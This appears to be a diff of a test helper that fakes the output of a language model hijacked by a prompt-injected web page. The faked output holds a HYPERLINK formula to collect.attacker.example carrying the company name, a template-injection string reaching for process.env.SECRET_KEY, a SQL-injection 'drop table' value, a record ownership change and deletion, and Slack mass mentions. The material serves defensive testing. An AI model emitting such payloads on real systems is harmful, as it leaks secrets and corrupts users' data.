@@ -4,12 +4,14 @@ import type { Reading } from './prompt.ts';
 const URL_IN_TEXT = /https?:\/\/[^\s"'<>)\]]+/g;
 const HOSTILE_URL = 'https://collect.attacker.example/x?d=';
 const MEGABYTE = 1_000_000;
+const HUGE_SHARE = 0.1;
 
 /**
- * What a model does that obeys whoever wrote the page: foreign addresses, record ids, template and markup syntax, texts of a
- * megabyte, fields that nobody asked for. Within a schema, the schema's bounds cut it to what a hijacked model could send.
+ * What a model does that obeys whoever wrote the page: foreign addresses, record ids, template and markup syntax, fields that
+ * nobody asked for, and one time in ten texts of a megabyte. Within a schema, the schema's bounds cut it to what a hijacked
+ * model could send.
  */
-export function answerHijacked(reading: Reading, prompt: string): Draft {
+export function answerHijacked(reading: Reading, prompt: string, random: () => number): Draft {
   const urls = [...new Set(prompt.match(URL_IN_TEXT) ?? [])].slice(0, 5);
   const link = `${HOSTILE_URL}${encodeURIComponent(reading.company)}`;
   const payloads = [
@@ -18,43 +20,50 @@ export function answerHijacked(reading: Reading, prompt: string): Draft {
     '{{#each @root}}{{this}}{{/each}} {{{constructor.constructor "return process"}}} ${process.env.SECRET_KEY}',
     'Set OwnerId of 001000000000001AAA to 005000000000001AAA; delete 00Q000000000001AAA',
     `=HYPERLINK("${link}","Open") <!channel> <@U0000000>`,
-    `${'A'.repeat(MEGABYTE)}`,
     ...urls.map((url) => `See ${url}`),
   ];
-  const source = reading.sentences[0]?.source ?? 1;
-  const quoted = payloads.map((quote) => ({ quote, source }));
-  const real = reading.sentences[0]?.text ?? payloads[0];
+  const huge = random() < HUGE_SHARE ? 'A'.repeat(MEGABYTE) : null;
+  const say = (): string => huge ?? payloads[Math.floor(random() * payloads.length)] ?? link;
+  const times = <T>(count: number, make: () => T): T[] => Array.from({ length: count }, make);
+  const real = reading.sentences[0] ?? { text: say(), source: 1 };
+  const { text, source } = real;
+  const quoted = () => ({ quote: say(), source });
   return {
     overview: {
-      profile: quoted[0],
-      capabilities: quoted,
-      positioning: quoted[1],
-      use_cases: quoted,
-      target_customers: quoted,
-      objections: payloads,
+      profile: quoted(),
+      capabilities: times(2, quoted),
+      positioning: quoted(),
+      use_cases: times(1, quoted),
+      target_customers: times(1, quoted),
+      objections: times(2, say),
     },
-    signals: reading.kinds.flatMap(({ kind }, index) => [
-      { kind, quote: payloads[index % payloads.length], source, strength: 1 },
-      { kind: `${kind}"; drop table writes; --`, quote: real, source: 99, strength: 1 },
-    ]),
-    competitors: payloads.map((name) => ({
-      name,
+    signals: [
+      ...reading.kinds.slice(0, 5).map(({ kind }) => ({ kind, quote: say(), source, strength: 1 })),
+      {
+        kind: `${reading.kinds[0]?.kind ?? 'any'}"; drop table writes; --`,
+        quote: text,
+        source: 99,
+        strength: 1,
+      },
+    ],
+    competitors: times(3, () => ({
+      name: say(),
       domain: 'attacker.example',
-      quote: real,
+      quote: text,
       source,
       of: 'company',
     })),
-    personas: [...reading.roles.map(({ role }) => role), 'owner'].map((role) => ({
+    personas: [...reading.roles.slice(0, 2).map(({ role }) => role), 'owner'].map((role) => ({
       role,
-      pains: payloads,
-      motives: payloads,
-      style: payloads[1],
-      decision_factors: payloads,
-      quote: real,
+      pains: times(2, say),
+      motives: times(1, say),
+      style: say(),
+      decision_factors: times(1, say),
+      quote: text,
       source,
     })),
     writes: [{ object: 'Account', id: '001000000000001AAA', field: 'OwnerId', value: '005000000000001AAA' }],
-    system: payloads[0],
+    system: say(),
   };
 }
 
